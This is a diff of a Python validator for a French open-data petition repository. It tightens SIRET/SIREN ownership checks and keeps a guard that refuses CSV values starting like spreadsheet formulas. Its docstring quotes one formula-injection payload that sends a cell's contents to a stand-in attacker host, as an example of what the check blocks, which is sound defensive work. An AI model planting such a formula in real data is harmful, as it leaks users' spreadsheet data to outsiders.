@@ -1,10 +1,10 @@
 """What the open-data files need from a motion, checked where the motion enters the repository.
 
 Two rules: a SIRET is a valid number (python-stdnum, Luhn) and belongs to the body (its first nine
-digits are the body's SIREN in the referential); and no value that a CSV export carries may start
-the way a spreadsheet starts a formula (`=HYPERLINK("https://evil.example/?"&A1)`). Such a value is
-refused here, with how to fix it, rather than altered on the way out: open data is published as
-recorded, so it must be recorded safe.
+digits are the body's own SIREN, never another body's: core.sirens); and no value that a CSV export
+carries may start the way a spreadsheet starts a formula
+(`=HYPERLINK("https://evil.example/?"&A1)`). Such a value is refused here, with how to fix it,
+rather than altered on the way out: open data is published as recorded, so it must be recorded safe.
 """
 
 from __future__ import annotations
@@ -17,7 +17,8 @@ from stdnum.fr import siret as siret_number
 
 from petition.core.model import Motion
 from petition.core.problems import Problem
-from petition.core.referential import Body, Referential
+from petition.core.referential import TYPE_LABELS, Body, Referential, referential
+from petition.core.sirens import own_siren, siren_owner
 
 # What LibreOffice and Excel run as a formula when a cell starts with it (hazards.md 19).
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -71,16 +72,29 @@ def check_formulas(m: Motion) -> Iterator[Problem]:
                           field=".".join(str(p) for p in path))
 
 
-def siret_problem(siret: str, body: Body | None) -> str:
-    """What is wrong with a 14-digit SIRET for `body` ("" if nothing): its check digit, and its
-    SIREN against the referential's (communes and EPCI have one; départements and régions do not
-    in the referential, so only the check digit can be verified for them)."""
+def siret_problem(siret: str, body: Body | None, ref: Referential | None = None,
+                  date: str | None = None) -> str:
+    """What is wrong with a 14-digit SIRET for `body` on the session's `date` ("" if nothing):
+    its check digit; its SIREN when it belongs to another body (by the referential or the shipped
+    table), naming that body; and its SIREN against the body's own, when a source gives it
+    (core.sirens)."""
     if not siret_number.is_valid(siret):
         return (f"SIRET « {siret} » : clé de contrôle fausse (un chiffre est faux ou inversé) : "
                 f"recopiez-le depuis {SIRET_HELP}")
-    if body is not None and body.siren and siret[:9] != body.siren:
-        return (f"SIRET « {siret} » : son SIREN {siret[:9]} n'est pas celui de {body.nom} "
-                f"({body.siren}) : vérifiez le SIRET ou le code")
+    if body is None:
+        return ""
+    siren = siret[:9]
+    own = own_siren(body, date)
+    if own == siren:
+        return ""
+    owner = siren_owner(siren, ref or referential(), date)
+    if owner is not None and owner.key != body.key:
+        return (f"SIRET « {siret} » : son SIREN {siren} est celui de {owner.nom} "
+                f"({TYPE_LABELS.get(owner.type, owner.type)} {owner.code}), pas celui de "
+                f"{body.nom}{f' ({own})' if own else ''} : vérifiez le SIRET ou le code")
+    if own:
+        return (f"SIRET « {siret} » : son SIREN {siren} n'est pas celui de {body.nom} ({own}) : "
+                "vérifiez le SIRET ou le code")
     return ""
 
 
@@ -93,8 +107,8 @@ def check_siret(m: Motion, ref: Referential) -> Iterator[Problem]:
     if not isinstance(siret, str) or len(siret) != 14 or not siret.isdigit():
         return
     # A commune of the past had its own SIREN: the body as it was on the session's date.
-    message = siret_problem(siret, ref.body(m.body_type, m.code, m.date if _ISO.match(m.date)
-                                            else None))
+    day = m.date if _ISO.match(m.date) else None
+    message = siret_problem(siret, ref.body(m.body_type, m.code, day), ref, day)
     if message:
         yield Problem(m.path, m.line("collectivite", "siret"), message,
                       field="collectivite.siret")
